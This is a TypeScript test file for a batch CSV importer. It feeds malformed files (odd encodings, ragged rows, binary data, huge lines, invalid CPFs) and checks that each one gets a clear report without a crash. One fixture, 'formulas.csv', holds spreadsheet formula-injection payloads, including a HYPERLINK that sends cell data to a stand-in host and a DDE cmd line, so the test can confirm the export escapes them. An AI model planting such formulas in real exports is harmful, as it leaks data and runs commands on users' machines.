import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import iconv from 'iconv-lite'
import { describe, expect, it } from 'vitest'
import { coreWithPrivateKeychain } from '../helpers/core-harness'
import { BatchJournal, type JobRow } from '../../src-main/services/batch/journal'
import { exportJob, prepareJob } from '../../src-main/services/batch/service'
import { importProblemText } from '../../src-shared/domain/import-problems'
import { createTranslator } from '../../src-shared/i18n'

/** The stored problem code as the analyst reads it (pt-BR). */
const said = (stored: string | null): string => importProblemText(stored ?? '', createTranslator('pt-BR'))

/* A malformed corpus (issue #8): every file gets a clear report, none crashes, no row is dropped. */
const h = coreWithPrivateKeychain({ host: 'cli' })
const CPF = '529.982.247-25'
const corpus: Record<
  string,
  { bytes: Buffer | string; expect: (job: JobRow, rows: ReturnType<BatchJournal['rows']>) => void }
> = {
  'bom.csv': {
    bytes: `\uFEFFNome;CPF\nAna;${CPF}\n`,
    expect: (j) =>
      expect(j).toMatchObject({ status: 'ready', totalRows: 1, sniffed: { encoding: 'utf-8-bom', delimiter: ';' } }),
  },
  'windows-1252.csv': {
    bytes: iconv.encode(`Nome;CPF;Cidade\nJoão Ação;${CPF};São Paulo\n`, 'win1252'),
    expect: (j, rows) => {
      expect(j.sniffed?.encoding).toBe('windows-1252')
      expect(rows[0]?.fields).toEqual(['João Ação', CPF, 'São Paulo'])
    },
  },
  'comma.csv': { bytes: `Nome,CPF\nAna,${CPF}\n`, expect: (j) => expect(j.sniffed?.delimiter).toBe(',') },
  'tab.tsv': { bytes: `Nome\tCPF\nAna\t${CPF}\n`, expect: (j) => expect(j.sniffed?.delimiter).toBe('\t') },
  'quoted-newlines.csv': {
    bytes: `Nome;CPF;Obs\n"Ana";${CPF};"linha 1\nlinha 2; com ponto e vírgula"\n`,
    expect: (_j, rows) => expect(rows[0]?.fields[2]).toBe('linha 1\nlinha 2; com ponto e vírgula'),
  },
  'crlf.csv': { bytes: `Nome;CPF\r\nAna;${CPF}\r\nBia;111.444.777-35\r\n`, expect: (j) => expect(j.totalRows).toBe(2) },
  'ragged.csv': {
    bytes: `Nome;CPF;Email\nAna;${CPF}\nBia;${CPF};b@x.com;extra;mais\nCaio;${CPF};c@x.com\n`,
    expect: (j, rows) => {
      expect(j.totalRows).toBe(3)
      expect(rows.map((r) => r.problem)).toEqual(['columns:2,3', 'columns:5,3', null])
    },
  },
  'empty.csv': {
    bytes: '',
    expect: (j) => expect(j).toMatchObject({ status: 'failed', importProblem: 'import:empty' }),
  },
  'blank-lines.csv': {
    bytes: '\n\n  \n\r\n',
    expect: (j) => expect(j).toMatchObject({ status: 'failed', importProblem: 'import:empty' }),
  },
  'header-only.csv': {
    bytes: 'Nome;CPF;Telefone\n',
    expect: (j) => expect(j).toMatchObject({ totalRows: 0, importProblem: 'import:header_only' }),
  },
  'huge-line.csv': {
    bytes: `Nome;CPF\nAna;${CPF}\n${'x'.repeat(10 * 1024 * 1024)};${CPF}\nBia;111.444.777-35\n`,
    expect: (j, rows) => {
      expect(j.totalRows).toBe(3)
      expect(rows[1]?.problem).toBe('cell_cut:4096')
      expect(rows[2]?.fields).toEqual(['Bia', '111.444.777-35'])
    },
  },
  'binary.bin': {
    bytes: Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 97) % 256)),
    expect: (j) => expect(said(j.importProblem)).toContain('não é um CSV (o conteúdo é binário)'),
  },
  'image.png': {
    bytes: Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]),
      Buffer.alloc(200, 7),
    ]),
    expect: (j) => expect(said(j.importProblem)).toContain('não é um CSV (o conteúdo é binário)'),
  },
  'utf16.csv': {
    bytes: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`Nome;CPF\nAna;${CPF}\n`, 'utf16le')]),
    expect: (j) => expect(said(j.importProblem)).toContain('UTF-16'),
  },
  'formulas.csv': {
    bytes: `Nome;CPF;Obs\n=HYPERLINK("http://evil/?"&A1);${CPF};@SUM(1+1)\n+cmd|' /C calc'!A0;${CPF};-1+1\n`,
    expect: (j) => expect(j.totalRows).toBe(2),
  },
  'unbalanced-quotes.csv': {
    bytes: `Nome;CPF\n"Ana;${CPF}\nBia;111.444.777-35\n`,
    expect: (j) => expect(['ready', 'failed']).toContain(j.status),
  },
  'no-identifier.csv': {
    bytes: 'a;b\n1;2\n',
    expect: (j) => expect(said(j.importProblem)).toContain('Nenhuma coluna de CPF ou celular'),
  },
  // Issue #14: one 8 MiB line of commas must not become eight million fields in memory.
  'comma-bomb.csv': {
    bytes: `Nome;CPF\nAna;${CPF}\n${';'.repeat(8 * 1024 * 1024)}\nBia;111.444.777-35\n`,
    expect: (j, rows) => {
      expect(j.totalRows).toBe(3)
      expect(rows[1]?.fields.length).toBe(5000)
      expect(rows[1]?.problem).toContain('columns_cut:5000')
      expect(rows[2]?.fields).toEqual(['Bia', '111.444.777-35'])
    },
  },
  'invalid-cpfs.csv': {
    bytes: 'Nome;CPF\nAna;123\nBia;111.111.111-11\nCaio;abc\n',
    expect: (j, rows) => {
      expect(j.invalidRows).toBe(3)
      // The unreadable identifier is the check's "not run" reason, not damage to the row.
      expect(rows.map((r) => [r.problem, r.keys['score']])).toEqual([
        [null, '!invalid_cpf.length'],
        [null, '!invalid_cpf.repeated'],
        [null, '!invalid_cpf.format'],
      ])
    },
  },
  'emoji.csv': {
    bytes: `Nome;CPF\nAna 😀 da Silva;${CPF}\n`,
    expect: (_j, rows) => expect(rows[0]?.fields[0]).toBe('Ana 😀 da Silva'),
  },
  'wide.csv': {
    bytes: `${Array.from({ length: 2000 }, (_, i) => (i === 1 ? 'CPF' : `c${i}`)).join(';')}\n${Array.from({ length: 2000 }, (_, i) => (i === 1 ? CPF : 'v')).join(';')}\n`,
    expect: (j) => expect(j.header).toHaveLength(2000),
  },
  'duplicate-headers.csv': {
    bytes: `CPF;CPF;Nome\n${CPF};000;Ana\n`,
    expect: (j) => expect(j.spec.mapping.cpf).toBe(0),
  },
}

describe('batch import: malformed corpus', () => {
  it('has at least 20 files', () => expect(Object.keys(corpus).length).toBeGreaterThanOrEqual(20))

  it.each(Object.keys(corpus))('%s: a clear report, no crash, every row exported once', async (name) => {
    const path = join(h.dataDir, name)
    writeFileSync(path, corpus[name]?.bytes ?? '')
    const job = await prepareJob(h.core.context, { inputPath: path, checks: ['score'] })
    const journal = new BatchJournal(h.core.context.db)
    const rows = journal.rows(job.id, 1, 10)
    corpus[name]?.expect(job, rows)
    if (job.status === 'failed') return
    const out = join(h.dataDir, `${name}.out.csv`)
    expect(
      (
        await exportJob(h.core.context, job, out, {
          policy: h.core.context.settings.get().policy,
          columns: 'codes',
          delimiter: ';',
        })
      ).rows,
    ).toBe(job.totalRows)
    const text = readFileSync(out, 'utf8')
    if (name === 'formulas.csv') {
      expect(text).toContain(`"'=HYPERLINK(""http://evil/?""&A1)"`)
      expect(text).toContain(`'@SUM(1+1)`)
      expect(text).toContain(`'+cmd`)
      expect(text).toContain(`'-1+1`)
    }
  })

  it('a missing file is an input error, not a crash', async () => {
    await expect(
      prepareJob(h.core.context, { inputPath: join(h.dataDir, 'nao-existe.csv'), checks: ['score'] }),
    ).rejects.toMatchObject({ code: 'batch.input_missing' })
  })
})
